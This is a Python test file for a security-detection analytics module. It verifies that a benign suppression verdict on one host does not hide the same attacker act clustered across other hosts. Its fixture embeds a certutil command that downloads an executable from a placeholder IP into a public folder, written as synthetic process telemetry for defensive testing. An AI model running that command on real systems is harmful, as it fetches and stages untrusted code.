"""A benign verdict that recorded no members (given before the service kept them) covers its own host's
finding, never one act grouped over several hosts (red team T15 finding 2, analytics.host_finding_words).

Such a verdict covers every finding of its host (:func:`analytics.host_finding_words.covered_by_verdict`)
and records no host keys, so :func:`analytics.suppression_scope.covers_hosts` read it as covering any host
set: an attacker repeating an act on a host judged that way hid the act on every other host it grouped with."""

from __future__ import annotations

import sqlite3

import orjson

from analytics.config import DetectionConfig
from analytics.host_finding_words import host_finding_clusters

CERTUTIL = r"C:\Windows\System32\certutil.exe"
DOWNLOAD = r"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe"


class _Journal:
    """The journal's ``events`` table, as the host-finding reads query it."""

    def __init__(self) -> None:
        self.connection = sqlite3.connect(":memory:")
        self.connection.execute("CREATE TABLE events (seq INTEGER PRIMARY KEY, id TEXT, kind TEXT, ts REAL, "
                                "host TEXT, fields BLOB)")

    def add(self, host: str, n: int) -> None:
        fields = {"process.executable": CERTUTIL, "process.command_line": DOWNLOAD, "process.guid": f"g{n}",
                  "process.parent.executable": r"C:\Windows\System32\cmd.exe"}
        self.connection.execute("INSERT INTO events (id, kind, ts, host, fields) VALUES (?, ?, ?, ?, ?)",
                                (f"e{n}", "sysmon:process_create", 100.0 + n, host, orjson.dumps(fields)))

    def get(self, ids):
        return []


def _found(hosts: list[str], judged: str) -> list[list[str]]:
    journal = _Journal()
    for n, host in enumerate(hosts):
        journal.add(host, n)
    config = DetectionConfig(suppressed=frozenset({("host", judged)}), suppressed_members={})
    return [c.hosts for c in host_finding_clusters(journal, config, (0.0, 10_000.0), [])[0]]


def test_a_verdict_without_members_covers_its_hosts_own_finding():
    assert _found(["jump-01"], "jump-01") == []


def test_a_verdict_without_members_does_not_hide_the_act_on_other_hosts():
    victims = [f"ws-{n:02d}" for n in range(30)]
    assert _found(["jump-01", *victims], "jump-01") == [["jump-01", *victims]]
